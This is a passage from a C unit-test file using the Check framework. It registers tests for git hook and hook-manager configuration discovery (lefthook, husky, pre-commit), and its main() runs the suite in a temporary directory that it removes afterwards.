	tcase_add_test(tc, test_root_as_hooks);
	tcase_add_test(tc, test_root_as_hooks_found);
	tcase_add_test(tc, test_workspace_below_top);
	tcase_add_test(tc, test_worktree_and_global);
	tcase_add_test(tc, test_outer_configs);
	tcase_add_test(tc, test_manager_keys);
	tcase_add_test(tc, test_includes);
	tcase_add_test(tc, test_hook_managers);
	tcase_add_test(tc, test_lefthook_rc);
	tcase_add_test(tc, test_husky_init);
	tcase_add_test(tc, test_precommit_home);
	tcase_add_test(tc, test_unreadable);
	tcase_add_test(tc, test_too_many);
	suite_add_tcase(s, tc);
	return s;
}

int
main(void)
{
	SRunner *sr = srunner_create(suite());
	char cmd[128];
	int failed;

	snprintf(root, sizeof(root), "/tmp/test_githooks.XXXXXX");
	if (mkdtemp(root) == NULL)
		return 1;
	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", root);
	if (system(cmd) != 0)
		failed++;
	return failed == 0 ? 0 : 1;
}
